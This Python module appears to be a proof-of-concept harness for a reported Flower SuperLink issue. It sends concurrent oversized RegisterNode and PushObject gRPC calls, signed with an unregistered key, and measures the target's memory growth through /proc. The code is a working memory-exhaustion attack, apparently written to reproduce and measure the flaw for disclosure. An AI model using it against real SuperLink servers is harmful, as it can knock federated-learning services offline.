"""One remote party's oversized Fleet API calls (issue 44, point 3), and what they cost the
SuperLink that receives them.

The calls go out the way Flower 1.39's SuperNode sends its own: over a gRPC channel to the Fleet
port, each signed by Flower's `NodeAuthClientInterceptor`. The SuperLink checks that signature on
every Fleet call, with or without `--enable-supernode-auth`, but any key passes it: here a fresh
one the SuperLink never registered. Each call gets a connection of its own, as from separate
machines, so that HTTP/2 flow control on one does not hold the others back.

Memory is read from /proc/PID/status: VmRSS now, and VmHWM, the peak since the process started
or since `reset_peak` (writing 5 to /proc/PID/clear_refs, allowed for one's own processes).
"""

from __future__ import annotations

import os
import time
from collections.abc import Callable, Iterator
from concurrent.futures import ThreadPoolExecutor
from contextlib import contextmanager
from dataclasses import dataclass
from pathlib import Path

import grpc
from cryptography.hazmat.primitives.serialization import load_ssh_private_key
from flwr.client.grpc_rere_client.node_auth_client_interceptor import NodeAuthClientInterceptor
from flwr.proto.fleet_pb2 import RegisterNodeFleetRequest
from flwr.proto.fleet_pb2_grpc import FleetStub
from flwr.proto.message_pb2 import PushObjectRequest
from flwr.proto.node_pb2 import Node

MiB = 1 << 20


@dataclass(frozen=True)
class Answer:
    """How the SuperLink answered one call: "OK" or a gRPC status name, its details, and how long it took."""

    code: str
    details: str
    seconds: float


def _channel(address: str, private_key: Path, root_certificates: Path | None) -> grpc.Channel:
    """A signed channel of its own to `address` (a fresh connection, not one shared with others)."""
    options = [
        ("grpc.max_send_message_length", -1),
        ("grpc.max_receive_message_length", -1),
        ("grpc.use_local_subchannel_pool", 1),
    ]
    if root_certificates is None:
        channel = grpc.insecure_channel(address, options=options)
    else:
        credentials = grpc.ssl_channel_credentials(root_certificates.read_bytes())
        channel = grpc.secure_channel(address, credentials, options=options)
    key = load_ssh_private_key(private_key.read_bytes(), password=None)
    return grpc.intercept_channel(channel, NodeAuthClientInterceptor(key, key.public_key()))


def oversized_register(size: int) -> RegisterNodeFleetRequest:
    """`RegisterNode` with a `size`-byte "public key": an insecure SuperLink stores whatever key
    it is given, unless another node has it already: each is made unique."""
    return RegisterNodeFleetRequest(public_key=os.urandom(16) + bytes(size - 16))


def oversized_push(size: int) -> PushObjectRequest:
    """`PushObject` of `size` bytes for a node and run that do not exist: with node auth, the
    SuperLink finds the key unregistered only once it has the whole request."""
    return PushObjectRequest(node=Node(node_id=1), run_id=1, object_id="0" * 64, object_content=bytes(size))


def send(
    address: str,
    requests: list[RegisterNodeFleetRequest | PushObjectRequest],
    private_key: Path,
    root_certificates: Path | None = None,
    timeout: float = 60.0,
) -> list[Answer]:
    """Send every request at once, each on its own signed connection; the SuperLink's answers."""

    def one(request) -> Answer:
        channel = _channel(address, private_key, root_certificates)
        stub = FleetStub(channel)
        call = stub.RegisterNode if isinstance(request, RegisterNodeFleetRequest) else stub.PushObject
        start = time.monotonic()
        try:
            call(request, timeout=timeout)
            return Answer("OK", "", time.monotonic() - start)
        except grpc.RpcError as error:
            return Answer(error.code().name, error.details() or "", time.monotonic() - start)
        finally:
            channel.close()

    with ThreadPoolExecutor(len(requests)) as pool:
        return list(pool.map(one, requests))


def register_all(address: str, keys: list[bytes], private_key: Path, threads: int = 8) -> list[str]:
    """`RegisterNode` for every key, `threads` at a time over one signed connection (one party,
    one address): each call's answer, "OK" or a gRPC status name."""
    channel = _channel(address, private_key, None)
    stub = FleetStub(channel)

    def one(key: bytes) -> str:
        try:
            stub.RegisterNode(RegisterNodeFleetRequest(public_key=key), timeout=30)
            return "OK"
        except grpc.RpcError as error:
            return error.code().name

    try:
        with ThreadPoolExecutor(threads) as pool:
            return list(pool.map(one, keys))
    finally:
        channel.close()


# --- the target's memory --------------------------------------------------------------------
def status_mib(pid: int, field: str) -> float:
    """`field` (VmRSS, VmHWM) of process `pid`, in MiB."""
    for line in Path(f"/proc/{pid}/status").read_text().splitlines():
        if line.startswith(f"{field}:"):
            return int(line.split()[1]) / 1024
    raise KeyError(f"no {field} in /proc/{pid}/status")


def reset_peak(pid: int) -> None:
    """Start VmHWM afresh from the current RSS (Linux 4.0+, one's own processes)."""
    Path(f"/proc/{pid}/clear_refs").write_text("5")


@dataclass
class Footprint:
    """The target's RSS before, its peak during, and its RSS after (all MiB)."""

    before: float = 0.0
    peak: float = 0.0
    after: float = 0.0

    @property
    def growth(self) -> float:
        """How far the peak rose above the RSS the attack found."""
        return self.peak - self.before


@contextmanager
def footprint(pid: int, settle: float = 2.0) -> Iterator[Footprint]:
    """Measure process `pid` across the block: RSS and a fresh peak at entry, the peak and the
    RSS (after `settle` seconds, for what a collector frees) at exit."""
    measured = Footprint(before=status_mib(pid, "VmRSS"))
    reset_peak(pid)
    yield measured
    measured.peak = status_mib(pid, "VmHWM")
    time.sleep(settle)
    measured.after = status_mib(pid, "VmRSS")


def attack(
    pid: int,
    address: str,
    requests: Callable[[], list],
    private_key: Path,
    root_certificates: Path | None = None,
    settle: float = 2.0,
) -> tuple[list[Answer], Footprint]:
    """Send the requests `requests()` builds to `address` at once; the answers and what they cost
    `pid` (built beforehand, so that their building is not part of the attack's time)."""
    batch = requests()
    with footprint(pid, settle) as measured:
        answers = send(address, batch, private_key, root_certificates)
    return answers, measured


def rss_summary(measured: Footprint) -> str:
    return f"{measured.before:.0f} -> peak {measured.peak:.0f}, then {measured.after:.0f} MiB"
